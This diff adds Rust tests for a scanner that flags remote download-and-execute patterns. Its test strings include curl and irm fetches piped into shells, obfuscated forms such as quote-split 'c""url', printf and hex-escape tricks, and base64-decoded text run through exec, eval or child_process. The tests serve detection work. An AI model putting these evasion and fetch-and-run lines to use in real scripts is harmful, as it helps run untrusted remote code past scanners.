@@ -68,6 +68,83 @@ fn a_block_by_its_indent() {
     assert_eq!(rules("a.md", text), ["download-then-run"]);
 }
 
+/// Neither half of a pair hides behind quotes, a substitution or a decoy on its line.
+#[test]
+fn a_pair_in_disguise() {
+    for text in [
+        "c\"\"url -o /tmp/a https://example.com; b''ash /tmp/a\n",
+        "c'ur'l -s https://example.com/a -o /tmp/a\n\"bash\" /tmp/a\n",
+        "$(printf 'cu%s' rl) -o /tmp/a https://example.com\n`echo sh` /tmp/a\n",
+        "curl -o /tmp/b https://example.com; c\\url -o /tmp/a https://example.com\n\"/tm\"\"p/a\"\n",
+        "$'\\x63url' -o /tmp/a https://example.com\nsudo /t''mp/a\n",
+        "A=cu;B=rl;C=/tmp/a\n$A$B -o $C https://example.com\nbash /tmp/a\n",
+    ] {
+        for (path, text) in [("a.sh", text.to_owned()), ("a.md", format!("```sh\n{text}```\n"))] {
+            let found = rules(path, &text);
+            assert!(
+                !found.is_empty() && found.iter().all(|rule| rule == "download-then-run"),
+                "{text} {found:?}"
+            );
+        }
+    }
+}
+
+/// A comment or an empty line between a pipe and its command is none to a shell.
+#[test]
+fn a_comment_behind_a_pipe() {
+    for text in [
+        "curl -s https://example.com/a | # read it\n sh\n",
+        "curl -s https://example.com/a |\n  # read it\n\n  # again | or not\n  bash\n",
+        "curl -s https://example.com/a |# x \\\n# y\nsudo bash\n",
+        "curl -s https://example.com/a \\\n  | # x\n  tee /tmp/a |\n  # y\n  bash\n",
+        "curl -s https://example.com/a | `# read it` bash\n",
+        "curl -s https://example.com/a | tee >(bash)\n",
+        "curl -s https://example.com/a | awk '{system($0)}'\n",
+        "curl -s https://example.com/a | at now\n",
+    ] {
+        assert_eq!(rules("a.sh", text), ["pipe-to-shell"], "{text}");
+        assert_eq!(rules("a.md", &format!("```sh\n{text}```\n")), ["pipe-to-shell"], "{text}");
+    }
+    assert_eq!(rules("a.ps1", "irm https://example.com/a | <# x #> iex\n"), ["powershell-download-run"]);
+    for text in [
+        "curl -s https://example.com/a | # sh\n jq .\n",
+        "curl -s https://example.com/a || # sh\n bash b.sh\n",
+        "curl -s https://example.com/a | tee >(wc -l)\n",
+        "curl -s https://example.com/a | awk '{print $0}'\n",
+    ] {
+        assert_eq!(rules("a.sh", text), [""; 0], "{text}");
+    }
+}
+
+/// What runs a text as code is found by its own name and by another one.
+#[test]
+fn decoded_text_that_is_run_under_another_name() {
+    for (path, text) in [
+        ("a.py", "import base64\ns = base64.b64decode(x)\nexec(s)\n"),
+        ("a.py", "import base64\ns = base64.b64decode(x)\nimport builtins\nbuiltins.exec(s)\n"),
+        ("a.py", "import base64\ns = base64.b64decode(x).decode()\nsubprocess.run(['sh', '-c', s])\n"),
+        ("a.py", "import base64\ns = base64.b64decode(x)\ne = exec\ne(s)\n"),
+        ("a.js", "const b = Buffer.from(p, 'base64').toString()\nrequire('child_process').execSync(b)\n"),
+        ("a.js", "const b = Buffer.from(p, 'base64').toString();\n(0, eval)(b)\n"),
+        ("a.js", "const b = atob(p);\nglobalThis.eval(b)\n"),
+        ("a.js", "const B = Buffer;\nconst b = B.from(p, 'base64').toString();\nconst e = eval;\ne(b)\n"),
+        ("a.js", "const b = atob(p);\nspawn('/bin/sh', ['-c', b])\n"),
+        ("a.rb", "s = Base64.strict_decode64(x)\n# x\nt = decompress(s)\neval(t)\n"),
+    ] {
+        let found = rules(path, text);
+        let run = ["decoded-then-run", "text-run-as-code"];
+        assert!(found.iter().any(|rule| run.contains(&rule.as_str())), "{text} {found:?}");
+    }
+    for (path, text) in [
+        ("a.py", "s = base64.b64decode(x)\nopen('a.png', 'wb').write(s)\nsubprocess.run(['ls', '-l'])\n"),
+        ("a.js", "const b = Buffer.from(p, 'base64').toString()\nconst m = /a/.exec(b)\n"),
+        ("a.py", "s = base64.b64decode(x)\ncursor.execute(q, s)\n"),
+        ("a.js", "const b = atob(p);\nspawn('convert', ['-c', b])\n"),
+    ] {
+        assert_eq!(rules(path, text), [""; 0], "{text}");
+    }
+}
+
 #[test]
 fn what_is_downloaded_and_not_run() {
     for text in [
